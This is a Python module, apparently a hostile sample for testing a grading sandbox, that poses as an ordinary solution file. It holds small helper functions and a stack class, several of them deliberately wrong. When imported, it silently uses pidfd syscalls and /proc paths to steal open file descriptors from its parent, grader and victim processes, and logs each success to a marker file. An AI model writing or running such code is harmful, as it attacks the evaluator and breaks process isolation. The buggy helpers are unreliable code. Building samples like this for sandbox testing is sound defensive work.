import json
import os
import sys

NAME = "steals-descriptors"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), canary("grader_pid"), canary("victim_pid")} - {None, 0, 1}:
    handle = libc.syscall(434, pid, 0)
    for number in range(64):
        fd = libc.syscall(438, handle, number, 0) if handle >= 0 else -1
        if fd >= 0:
            harmed(f"stole descriptor {number} of {pid}: {os.readlink(f'/proc/self/fd/{fd}')}")
            os.close(fd)
        try:
            fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR | os.O_NONBLOCK)
            harmed(f"opened descriptor {number} of {pid}: {os.readlink(f'/proc/self/fd/{fd}')}")
            os.close(fd)
        except OSError:
            pass
